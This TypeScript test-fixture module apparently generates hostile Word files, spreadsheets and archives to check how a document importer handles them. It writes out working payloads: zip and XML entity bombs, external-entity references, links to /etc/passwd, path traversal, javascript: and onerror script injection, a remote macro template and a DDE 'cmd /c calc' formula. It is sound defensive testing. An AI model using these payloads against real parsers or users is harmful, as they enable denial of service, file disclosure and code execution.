import { strToU8, zipSync } from 'fflate';
import { joined, megabyte, script, textBytes, type HostileFile } from './hostile-file.ts';
import {
  archive,
  cell,
  drawing,
  paragraph,
  relation,
  relationships,
  sharedStrings,
  wordFile,
  wordXml,
  workbook,
} from './valid-files.ts';

/** Writes a number into each record of an archive that begins with a signature. */
function withField(bytes: Uint8Array, signature: number, at: number, value: number): Uint8Array {
  const changed = bytes.slice();
  const view = new DataView(changed.buffer);
  for (let start = 0; start < changed.length - 46; start += 1)
    if (view.getUint32(start, true) === signature) view.setUint16(start + at, value, true);
  return changed;
}

const local = 0x04034b50;
const central = 0x02014b50;
const png = (size: number): Uint8Array =>
  joined(Uint8Array.from([0x89, 0x50, 0x4e, 0x47]), new Uint8Array(size));

const pictures = relationships(relation('p1', 'image', 'media/a.png'));

/** Documents of Word that are bombs, damaged, or lead elsewhere. */
export const hostileWordFiles = (address: string): readonly HostileFile[] => [
  {
    name: 'text-bomb.docx',
    make: () => wordFile(wordXml(paragraph('a'.repeat(42 * megabyte)))),
    asDocument: ['too-much-inside'],
  },
  {
    name: 'element-bomb.docx',
    make: () => wordFile(wordXml('<w:p/>'.repeat(3_000_000))),
    asDocument: ['too-much-inside'],
  },
  {
    name: 'attribute-bomb.docx',
    make: () => wordFile(wordXml(`<w:p ${'a="" '.repeat(100)}/>`.repeat(20_000))),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'deep-bomb.docx',
    make: () => wordFile(wordXml('<w:p>'.repeat(200_000) + '</w:p>'.repeat(200_000))),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'table-bomb.docx',
    make: () => wordFile(wordXml('<w:tbl><w:tr><w:tc>'.repeat(3000) + '</w:tc></w:tr></w:tbl>'.repeat(3000))),
  },
  {
    name: 'styles-bomb.docx',
    make: () => wordFile(wordXml(paragraph('a')), { 'word/styles.xml': '<a/>'.repeat(5 * megabyte) }),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'many-large-parts.docx',
    make: () =>
      wordFile(wordXml(paragraph('a')), {
        ...Object.fromEntries(
          Array.from({ length: 4 }, (_, index) => [`word/media/${String(index)}.png`, png(39 * megabyte)]),
        ),
      }),
    asDocument: ['too-much-inside'],
  },
  {
    name: 'one-picture-3000-times.docx',
    make: () =>
      wordFile(wordXml(paragraph('a') + drawing('p1').repeat(3_000)), {
        'word/_rels/document.xml.rels': pictures,
        'word/media/a.png': png(10 * megabyte),
      }),
  },
  {
    name: 'entities.docx',
    make: () =>
      wordFile(
        wordXml(
          paragraph('&d;'),
          `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "${'ha'.repeat(100)}"><!ENTITY b "${'&a;'.repeat(100)}">` +
            `<!ENTITY c "${'&b;'.repeat(100)}"><!ENTITY d "${'&c;'.repeat(100)}">]>`,
        ),
      ),
  },
  {
    name: 'entity-from-elsewhere.docx',
    make: () =>
      wordFile(
        wordXml(
          paragraph('&x;'),
          `<!DOCTYPE w [<!ENTITY x SYSTEM "${address}/x.dtd"><!ENTITY % y SYSTEM "${address}/y.dtd">%y;]>`,
        ),
      ),
  },
  {
    name: 'linked-picture.docx',
    make: () =>
      wordFile(wordXml(paragraph('Goals') + drawing('p1', 'link')), {
        'word/_rels/document.xml.rels': relationships(
          relation('p1', 'image', `${address}/a.png`, ' TargetMode="External"'),
        ),
      }),
    asDocument: ['read'],
  },
  {
    name: 'picture-of-a-file.docx',
    make: () =>
      wordFile(wordXml(paragraph('Goals') + drawing('p1', 'link')), {
        'word/_rels/document.xml.rels': relationships(
          relation('p1', 'image', 'file:///etc/passwd', ' TargetMode="External"'),
        ),
      }),
    asDocument: ['read'],
  },
  {
    name: 'missing-picture.docx',
    make: () =>
      wordFile(wordXml(paragraph('Goals') + drawing('p1')), { 'word/_rels/document.xml.rels': pictures }),
    asDocument: ['read'],
  },
  {
    name: 'picture-outside-the-archive.docx',
    make: () =>
      wordFile(wordXml(paragraph('Goals') + drawing('p1')), {
        'word/_rels/document.xml.rels': relationships(relation('p1', 'image', '../../../../etc/passwd')),
      }),
    asDocument: ['read'],
  },
  {
    name: 'template-from-elsewhere.docx',
    make: () =>
      wordFile(wordXml(paragraph('Goals')), {
        'word/_rels/settings.xml.rels': relationships(
          relation('t', 'attachedTemplate', `${address}/t.dotm`, ' TargetMode="External"'),
        ),
        'word/settings.xml': '<w:settings/>',
        'word/vbaProject.bin': script,
      }),
    asDocument: ['read'],
  },
  {
    name: 'script-as-text.docx',
    make: () => wordFile(wordXml(paragraph(`&lt;img src="${address}/a.png" onerror="${script}"&gt;`))),
    asDocument: ['read'],
  },
  {
    name: 'link-to-a-script.docx',
    make: () =>
      wordFile(wordXml('<w:p><w:hyperlink r:id="l1"><w:r><w:t>Click</w:t></w:r></w:hyperlink></w:p>'), {
        'word/_rels/document.xml.rels': relationships(relation('l1', 'hyperlink', `javascript:${script}`)),
      }),
    asDocument: ['read'],
  },
  {
    name: 'slow-header.docx',
    make: () => wordFile(wordXml(paragraph('Goals')), { 'word/header1.xml': '<w:t '.repeat(megabyte) }),
  },
  { name: 'no-text.docx', make: () => wordFile('<w:'), asDocument: ['damaged'] },
  { name: 'not-xml.docx', make: () => wordFile('<!doctype html><p>x'), asDocument: ['damaged', 'empty'] },
  { name: 'another-root.docx', make: () => wordFile('<a/>'), asDocument: ['damaged', 'empty'] },
  { name: 'empty.docx', make: () => wordFile(wordXml('')), asDocument: ['empty'] },
  {
    name: 'encrypted-archive.docx',
    make: () => withField(wordFile(wordXml(paragraph('a'))), central, 8, 1),
    asDocument: ['encrypted', 'damaged', 'read'],
  },
  {
    name: 'unknown-compression.docx',
    make: () => withField(withField(wordFile(wordXml(paragraph('a'))), central, 10, 99), local, 8, 99),
    asDocument: ['encrypted'],
  },
  {
    name: 'false-size.docx',
    make: () => withField(wordFile(wordXml(paragraph('a'.repeat(9 * megabyte)))), central, 24, 100),
  },
  {
    name: 'false-offset.docx',
    make: () => withField(wordFile(wordXml(paragraph('a'))), central, 42, 60_000),
    asDocument: ['damaged'],
  },
  {
    name: 'path-outside.docx',
    make: () => archive({ '../../word/document.xml': wordXml(paragraph('a')), '/etc/passwd': 'x' }),
    asDocument: ['not-a-document'],
  },
  {
    name: 'prototype.docx',
    make: () =>
      wordFile(wordXml(paragraph('Goals')), { __proto__: 'x', constructor: 'x', 'word/__proto__': 'x' }),
    asDocument: ['read'],
  },
];

/** Workbooks of the same kind. */
export const hostileWorkbooks = (address: string): readonly HostileFile[] => [
  {
    name: 'far-cell.xlsx',
    make: () =>
      workbook(`<row r="1">${cell('A1', 'a')}</row><row r="1048576">${cell('XFD1048576', 'b')}</row>`),
    asDocument: ['too-much-inside'],
  },
  {
    name: 'row-out-of-this-world.xlsx',
    make: () => workbook(`<row r="999999999999">${cell('A999999999999', 'a')}</row>`),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'column-out-of-this-world.xlsx',
    make: () => workbook(`<row r="1">${cell('ZZZZZZZZ1', 'a')}</row>`),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'row-of-no-number.xlsx',
    make: () => workbook(`<row r="1e9"><c r="A1"><v>1</v></c></row>`),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'one-text-in-many-cells.xlsx',
    make: () =>
      workbook(
        Array.from(
          { length: 3000 },
          (_, row) => `<row r="${String(row + 1)}"><c r="A${String(row + 1)}" t="s"><v>0</v></c></row>`,
        ).join(''),
        { 'xl/sharedStrings.xml': sharedStrings('a'.repeat(megabyte)) },
      ),
    asDocument: ['too-much-text'],
  },
  {
    name: 'cells-bomb.xlsx',
    make: () => workbook(`<row r="1">${'<c r="A1"/>'.repeat(3_000_000)}</row>`),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'one-sheet-many-times.xlsx',
    make: () =>
      workbook(
        Array.from(
          { length: 2000 },
          (_, row) => `<row r="${String(row + 1)}">${cell(`A${String(row + 1)}`, 'a')}</row>`,
        ).join(''),
        {
          'xl/workbook.xml':
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"' +
            ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>' +
            `${'<sheet name="A" sheetId="1" r:id="r1"/>'.repeat(20_000)}</sheets></workbook>`,
        },
      ),
    asDocument: ['too-much-inside', 'damaged'],
  },
  {
    name: 'formula-to-elsewhere.xlsx',
    make: () =>
      workbook(
        `<row r="1"><c r="A1" t="str"><f>WEBSERVICE("${address}")</f><v>=cmd|'/c calc'!A1</v></c></row>`,
      ),
    asDocument: ['read'],
  },
  {
    name: 'script-as-text.xlsx',
    make: () => workbook(`<row r="1">${cell('A1', `&lt;script&gt;${script}&lt;/script&gt;`)}</row>`),
    asDocument: ['read'],
  },
  {
    name: 'no-sheet.xlsx',
    make: () => archive({ 'xl/workbook.xml': '<workbook/>' }),
    asDocument: ['damaged', 'empty'],
  },
  { name: 'empty.xlsx', make: () => workbook(''), asDocument: ['empty'] },
  {
    name: 'binary.xlsb',
    make: () =>
      archive({ '[Content_Types].xml': '<Types/>', 'xl/workbook.bin': 'x', 'xl/worksheets/sheet1.bin': 'x' }),
    asDocument: ['old-office'],
  },
];

/** Archives of other things. */
export const otherArchives = (address: string): readonly HostileFile[] => [
  { name: 'empty.zip', make: () => zipSync({}), asDocument: ['not-a-document'] },
  { name: 'program.zip', make: () => archive({ 'a.exe': 'MZ' }), asDocument: ['not-a-document'] },
  {
    name: 'archive-in-an-archive.zip',
    make: () => {
      let inner = zipSync({ 'a.txt': new Uint8Array(9 * megabyte) });
      for (let level = 0; level < 6; level += 1)
        inner = zipSync({ [`${String(level)}.zip`]: inner, [`${String(level)}b.zip`]: inner });
      return inner;
    },
    asDocument: ['not-a-document'],
  },
  {
    name: 'many-files.zip',
    make: () =>
      zipSync(
        Object.fromEntries(
          Array.from({ length: 20_000 }, (_, index) => [`${String(index)}.html`, strToU8('')]),
        ),
        { level: 0 },
      ),
    asDocument: ['too-much-inside'],
  },
  {
    name: 'page-bomb.zip',
    make: () => archive({ 'a.html': new Uint8Array(39 * megabyte).fill(0x61) }),
    asDocument: ['too-much-text'],
  },
  {
    name: 'one-picture-many-times.zip',
    make: () =>
      archive({
        'a.html': `<html><p>Goals</p>${'<img src="a.png">'.repeat(5000)}</html>`,
        'a.png': png(5 * megabyte),
      }),
  },
  {
    name: 'picture-elsewhere.zip',
    make: () =>
      archive({ 'a.html': `<html><p>Goals</p><img src="${address}/a.png"><img src="../../a.png"></html>` }),
    asDocument: ['read'],
  },
  {
    name: 'presentation.pptx',
    make: () => archive({ 'ppt/presentation.xml': '<p/>' }),
    asDocument: ['not-a-document'],
  },
  {
    name: 'letter.pages',
    make: () => archive({ 'Index/Document.iwa': 'x', 'Metadata/Properties.plist': 'x' }),
    asDocument: ['open-document'],
  },
  {
    name: 'prices.numbers',
    make: () => archive({ 'Index/Document.iwa': 'x', 'Index/CalculationEngine.iwa': 'x' }),
    asDocument: ['open-document'],
  },
  {
    name: 'old-letter.pages',
    make: () => archive({ 'index.xml': '<sl:document/>', 'QuickLook/Preview.pdf': '%PDF' }),
    asDocument: ['open-document'],
  },
  {
    name: 'letter.odt',
    make: () => archive({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' }),
    asDocument: ['open-document'],
  },
  {
    name: 'prices.ods',
    make: () =>
      archive({ mimetype: 'application/vnd.oasis.opendocument.spreadsheet', 'content.xml': '<x/>' }),
    asDocument: ['open-document'],
  },
  {
    name: 'damaged.odt',
    make: () =>
      archive({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<x/>' }).subarray(
        0,
        120,
      ),
    asDocument: ['damaged'],
  },
  {
    name: 'book.epub',
    make: () =>
      archive({ mimetype: 'application/epub+zip', 'a.xhtml': '<p>x', 'META-INF/container.xml': '<x/>' }),
  },
  {
    name: 'page-and-archive.html',
    make: () =>
      joined(textBytes(`<!doctype html><p>Goals<script>${script}</script>`), archive({ 'a.html': '<p>x' })),
  },
  {
    name: 'archive-behind-a-picture.png',
    make: () => joined(png(20), wordFile(wordXml(paragraph('a')))),
    asDocument: ['not-a-document'],
  },
];
